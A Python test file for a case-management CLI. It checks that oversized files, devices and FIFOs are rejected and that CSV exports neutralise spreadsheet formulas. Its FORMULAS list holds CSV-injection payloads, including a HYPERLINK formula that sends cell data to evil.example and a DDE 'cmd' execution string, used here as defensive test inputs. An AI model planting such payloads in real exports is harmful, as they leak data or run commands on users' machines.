"""Files from the user are checked before they are read, and CSV cells cannot run as formulas.

`cases import /dev/zero` and `export letter --text /dev/zero` used to read until the
kernel killed them; a FIFO blocked forever. Each now fails at once with one line.
A note starting with ``=HYPERLINK(...)`` ran as a formula when the CSV was opened.
"""

from __future__ import annotations

import csv
import io
import os
import subprocess
import sys
import time

import pytest

from ketcover_tui.domain.calls import CallEntry
from ketcover_tui.domain.case import Case, Patient
from ketcover_tui.store import CaseStore, UnreadableFile
from ketcover_tui.store.checked_read import IMPORT_STREAM_LIMIT, MB, open_checked, read_checked

pytestmark = pytest.mark.clock


def ketcover(*args, timeout=30):
    return subprocess.run([sys.executable, "-m", "ketcover_tui.cli", *args], capture_output=True, text=True,
                          timeout=timeout)


@pytest.fixture
def a_case(data_dir):
    store = CaseStore(data_dir)
    case = store.create(Case(patient=Patient(name="Ana Lee")))
    return case


def one_line_failure(result, *words):
    assert result.returncode != 0
    err = result.stderr.strip()
    assert len(err.splitlines()) == 1 and "Traceback" not in err, err
    for word in words:
        assert word in err, err


@pytest.fixture
def fifo(tmp_path):
    path = tmp_path / "pipe.json"
    os.mkfifo(path)
    return path


def test_cases_import_of_a_device_a_fifo_or_a_folder_fails_fast(data_dir, fifo, tmp_path):
    for source in ("/dev/zero", str(fifo), str(tmp_path)):
        started = time.monotonic()
        result = ketcover("--data-dir", str(data_dir), "cases", "import", source)
        one_line_failure(result, source, "not a regular file")
        assert time.monotonic() - started < 15


def test_cases_import_refuses_a_document_over_20_mb_before_reading_it(data_dir, tmp_path):
    big = tmp_path / "big.json"
    with open(big, "wb") as handle:
        handle.truncate(20 * MB + 1)  # sparse: the size alone must refuse it
    one_line_failure(ketcover("--data-dir", str(data_dir), "cases", "import", str(big)), "larger than 20 MB")


def test_letter_text_from_a_device_a_fifo_or_a_big_file_fails_fast(data_dir, a_case, fifo, tmp_path):
    big = tmp_path / "letter.txt"
    big.write_bytes(b"x" * (MB + 1))
    for source, why in (("/dev/zero", "not a regular file"), (str(fifo), "not a regular file"),
                        (str(big), "larger than 1 MB")):
        result = ketcover("--data-dir", str(data_dir), "export", "letter", a_case.id, "lmn",
                          "--text", source, "-o", str(tmp_path / "out.pdf"))
        one_line_failure(result, why)
    assert not (tmp_path / "out.pdf").exists()


def test_the_stream_helper_stops_at_the_limit_even_if_the_file_grows(tmp_path):
    path = tmp_path / "eob.ndjson"
    path.write_bytes(b'{"a": 1}\n' * 10)
    with open_checked(path, limit=100) as stream:
        with open(path, "ab") as grower:  # grows after the size was checked
            grower.write(b'{"b": 2}\n' * 100)
        with pytest.raises(UnreadableFile, match="larger than 100 bytes"):
            for _line in stream:
                pass
    assert IMPORT_STREAM_LIMIT == 200 * MB
    assert read_checked(tmp_path / "eob.ndjson", 10_000).count(b"\n") == 110
    with pytest.raises(UnreadableFile, match="not a regular file"):
        open_checked("/dev/zero", IMPORT_STREAM_LIMIT)


def test_inbox_reads_through_the_same_checks(tmp_path):
    from ketcover_tui.store.inbox import read_inbox_file

    (tmp_path / "pipe").mkdir()
    os.mkfifo(tmp_path / "pipe" / "scan.pdf")
    os.symlink("/dev/zero", tmp_path / "pipe" / "zero.pdf")
    for name in ("scan.pdf", "zero.pdf"):
        with pytest.raises(UnreadableFile):
            read_inbox_file(tmp_path / "pipe", name, MB)


FORMULAS = ["=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")", "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)",
            "\t=1+1", "\r=1+1"]


def test_csv_cells_that_spreadsheets_would_run_get_a_quote_and_raw_keeps_them(data_dir, a_case, tmp_path):
    store = CaseStore(data_dir)

    def add_calls(case):
        for n, text in enumerate(FORMULAS):
            case.calls.append(CallEntry(started_at=f"2026-01-0{n + 1}T10:00:00+00:00", notes=text,
                                        rep_name="=cmd()", reference="R-1"))

    store.update(a_case.id, add_calls)
    for extra, expected in (((), [f"'{t}" for t in FORMULAS]), (("--raw",), FORMULAS)):
        out = tmp_path / f"calls{len(extra)}.csv"
        result = subprocess.run([sys.executable, "-m", "ketcover_tui.cli", "--data-dir", str(data_dir), "export",
                                 "calls", a_case.id, "-f", "csv", "-o", str(out), *extra], capture_output=True,
                                text=True, timeout=60)
        assert result.returncode == 0, result.stderr
        rows = list(csv.DictReader(io.StringIO(out.read_bytes().decode("utf-8-sig"), newline="")))
        notes_key = next(k for k in rows[0] if rows[0][k] in (FORMULAS[0], f"'{FORMULAS[0]}"))
        assert sorted(r[notes_key] for r in rows) == sorted(expected), [r[notes_key] for r in rows]
        assert {r[k] for r in rows for k in r if "=cmd()" in r[k]} == {"'=cmd()" if not extra else "=cmd()"}
